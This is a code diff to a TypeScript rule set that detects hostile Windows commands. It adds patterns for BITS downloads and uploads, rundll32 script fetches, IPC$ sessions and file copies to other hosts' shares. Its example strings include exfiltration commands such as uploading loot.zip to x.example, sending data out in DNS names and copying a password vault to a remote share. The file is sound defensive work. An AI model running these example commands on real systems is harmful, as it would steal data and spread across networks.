@@ -65,7 +65,10 @@ export const WINDOWS_RULES: Rule[] = [
       { re: new RegExp(String.raw`\b(?:mshta|hh|msiexec|cmstp|presentationhost|ieexec|wscript|cscript|regsvr32|odbcconf|esentutl|extrac32|replace|xcopy|makecab|diantz|desktopimgdownldr|certreq|finger|msdt|winget|ie4uinit|appinstaller|excel|winword|powerpnt|mspub|squirrel|devtoolslauncher|msxsl|control|installutil|regasm|regsvcs|msbuild|rundll32|schtasks|wmic|forfiles|pcalua|scriptrunner|syncappvpublishingserver|findstr|mpcmdrun|ftp|msedge_proxy|pcwrun|wsl)${X}\b[^|;&\n]*${REMOTE}`, 'i') },
       { re: /\bmshta(?:\.exe)?\s+["']?(?:javascript|vbscript):/i },
       { re: /\bregsvr32(?:\.exe)?\b.*\/i:.*\bscrobj(?:\.dll)?\b/i },
-      { re: /\bStart-BitsTransfer\b.*-Source\s+["']?https?:/i },
+      // -Source named or first positional (Start-BitsTransfer, https://learn.microsoft.com/powershell/module/bitstransfer/start-bitstransfer)
+      { re: /\bStart-BitsTransfer\b.*(?:-Source\s+|\s)["']?https?:/i },
+      // rundll32 running script that pulls more script from a URL (`javascript:… GetObject("script:http://…")`, LOLBAS Rundll32)
+      { re: /\brundll32(?:\.exe)?\b.*\b(?:javascript|vbscript):.*\b(?:https?:|script:)/i },
       { re: /\bdesktopimgdownldr(?:\.exe)?\b.*\/lockscreenurl:/i },
       // a file copied or expanded from a share, or a program run from one
       { re: /\b(?:type|copy|xcopy|robocopy|expand|print|replace|esentutl|tar|printbrm|findstr|extrac32|makecab|cmd)(?:\.exe)?\b[^|;&\n]*(?:^|[\s:])\\\\[\w.-]+\\[^\s]*\.\w+/i },
@@ -319,7 +322,7 @@ export const WINDOWS_RULES: Rule[] = [
     category: 'execution',
     action: 'record',
     attack: 'T1021',
-    description: "Reaching into another Windows host: its administrative shares (\\\\HOST\\C$, ADMIN$), PowerShell remoting (Enable-PSRemoting, Invoke-Command -ComputerName, Enter-PSSession, New-PSSession), winrs -r:, PsExec \\\\HOST, WMI or DCOM with -ComputerName, stored RDP credentials (cmdkey /generic:TERMSRV).",
+    description: "Reaching into another Windows host: its administrative shares (\\\\HOST\\C$, ADMIN$, a session to IPC$), PowerShell remoting (Enable-PSRemoting, Invoke-Command -ComputerName, Enter-PSSession, New-PSSession), winrs -r:, PsExec \\\\HOST, WMI or DCOM with -ComputerName, stored RDP credentials (cmdkey /generic:TERMSRV).",
     help: 'Spreads from this host to others with the credentials at hand. Check which host and why the task needs it.',
     examples: {
       match: ['copy .\\a.exe \\\\x.example\\C$\\Windows\\Temp\\a.exe', 'Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }', 'winrs -r:srv01 cmd /c whoami'],
@@ -327,7 +330,11 @@ export const WINDOWS_RULES: Rule[] = [
     },
     idioms: [
       // something copied to, moved to or started from an administrative share (listing one is discovery)
-      { re: /\b(?:copy|xcopy|robocopy|move|Copy-Item|Move-Item|cp|mv|net\s+use|New-PSDrive|New-SmbMapping|sc|schtasks|start|Start-Process|type|Set-Content|Out-File)\b[^|;&\n]*\\\\[\w.-]+\\(?:[A-Za-z]\$|ADMIN\$)/i },
+      { re: /\b(?:copy|xcopy|robocopy|move|Copy-Item|Move-Item|cp|mv|New-PSDrive|New-SmbMapping|sc|schtasks|start|Start-Process|type|Set-Content|Out-File)\b[^|;&\n]*\\\\[\w.-]+\\(?:[A-Za-z]\$|ADMIN\$|IPC\$)/i },
+      // a session opened to an administrative share or to IPC$, the share a session to the host's
+      // services (SCM, registry, task scheduler) goes through: `net use [X:] \\HOST\IPC$ [password]
+      // [/user:U]`, not `/delete` (net use, https://learn.microsoft.com/previous-versions/windows/it-pro/windows-server-2012-r2-and-2012/gg651155(v=ws.11))
+      { re: /\bnet1?(?:\.exe)?\s+use\s+(?:[A-Za-z*]:?\s+)?["']?\\\\[\w.-]+\\(?:[A-Za-z]\$|ADMIN\$|IPC\$)["']?(?:\s+(?:"[^"]*"|[^\s/"]\S*|\/(?:user|u|persistent|savecred|smartcard|requireintegrity|requireprivacy)\b\S*))*\s*$/i },
       { re: /\bEnable-PSRemoting\b|\b(?:Enter-PSSession|New-PSSession)\b[^|;&\n]*-(?:ComputerName|HostName|Cn)\b|\bInvoke-Command\b[^|;&\n]*-(?:ComputerName|Session|HostName|Cn)\b/i },
       { re: /\bwinrs(?:\.exe)?\b[^|;&\n]*[-/]r(?:emote)?:\S/i },
       { re: /\bpsexec(?:64)?(?:\.exe)?\b[^|;&\n]*\s\\\\[\w.-]+/i },
@@ -336,13 +343,37 @@ export const WINDOWS_RULES: Rule[] = [
       { re: /\bNew-(?:SmbMapping|PSDrive)\b[^|;&\n]*\\\\[\w.-]+\\/i },
     ],
   }),
+  idiomRule({
+    id: 'windows-share-write',
+    name: 'Files written to another host\'s share',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1570',
+    description: 'Files copied, moved or written to a share on another host (a \\\\HOST\\SHARE destination): copy, xcopy, move, robocopy, Copy-Item/Move-Item -Destination, Set-Content/Add-Content/Out-File/Export-Csv/Compress-Archive to a UNC path, a redirect into one. Administrative shares (C$, ADMIN$, IPC$) are windows-lateral-movement.',
+    help: 'Moves data off this host over SMB, or stages a tool on another one. Check what is copied and whose share it is.',
+    examples: {
+      match: ['robocopy C:\\Users\\bob\\Documents \\\\x.example\\drop /E', 'Copy-Item C:\\Users\\bob\\notes.kdbx -Destination \\\\x.example\\share\\', 'xcopy /s /y C:\\Users\\bob\\Desktop \\\\10.0.0.9\\pub\\'],
+      not_match: ['robocopy \\\\fileserver\\builds C:\\builds /MIR', 'copy \\\\fileserver\\tools\\setup.txt .', 'net use Z: \\\\fileserver\\projects'],
+    },
+    // Lateral Tool Transfer, https://attack.mitre.org/techniques/T1570/ (files moved between hosts over
+    // SMB shares); robocopy(1) and xcopy(1) take SOURCE DESTINATION, options anywhere
+    // (https://learn.microsoft.com/windows-server/administration/windows-commands/robocopy). The share
+    // name has no `$`, so the administrative shares stay windows-lateral-movement's.
+    idioms: [
+      { re: /\b(?:copy|xcopy|move|robocopy)(?:\.exe)?\s+(?:\/\S+\s+)*(?:"[^"]*"|[^\s"\/][^\s"]*)\s+(?:\/\S+\s+)*["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
+      { re: /\b(?:Copy-Item|Move-Item|cpi|mi|Compress-Archive)\b[^|;&\n]*\s-Destination(?:Path)?\s+["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
+      { re: /\b(?:Copy-Item|Move-Item)\s+(?:-Path\s+)?(?:"[^"]*"|'[^']*'|[^\s"'-][^\s"']*)\s+["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
+      { re: /\b(?:Set-Content|Add-Content|Out-File|Export-Csv|Export-Clixml)\b(?:[^|;&\n]*\s-(?:Path|FilePath|LiteralPath))?\s+["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/i },
+      { re: /[^\s<>|&]\s*>{1,2}\s*["']?\\\\[\w.-]+\\[\w.-]+(?:[\\\s"']|$)/ },
+    ],
+  }),
   withLine(filePosted, idiomRule({
     id: 'powershell-exfil-channel',
     name: 'Data sent out by PowerShell',
     category: 'exfiltration',
     action: 'record',
     attack: 'T1048',
-    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
+    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, a BITS upload job (Start-BitsTransfer -TransferType Upload, bitsadmin /upload), Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
     help: 'Moves files or collected data off the host. Check what is read and where it goes.',
     examples: {
       match: ["(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\Users\\Public\\loot.zip')", "$c = Get-Content C:\\Users\\Public\\notes.txt; Invoke-WebRequest -Uri https://x.example/u -Method POST -Body $c", "Resolve-DnsName -Type TXT \"$($chunk).x.example\""],
@@ -350,6 +381,8 @@ export const WINDOWS_RULES: Rule[] = [
     },
     idioms: [
       { re: /\.Upload(?:File|String|Data|Values)(?:Async|TaskAsync)?\s*\(/i },
+      // a BITS job that uploads (Start-BitsTransfer -TransferType Upload; bitsadmin /transfer … /upload)
+      { re: /\bStart-BitsTransfer\b[^|;&\n]*-TransferType\s+["']?Upload\b|\bbitsadmin(?:\.exe)?\b[^|;&\n]*\/upload\b/i },
       { re: /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|;&\n]*\s-InFile\s+\S/i },
       { re: /NetworkInformation\.Ping\b[\s\S]*\.Send\s*\([^)]*\$/i },
       { re: /\bResolve-DnsName\b[^|;&\n]*["']?\$(?:\(|\w+)[^\s"']*\.[\w-]+\.[\w-]+/i },
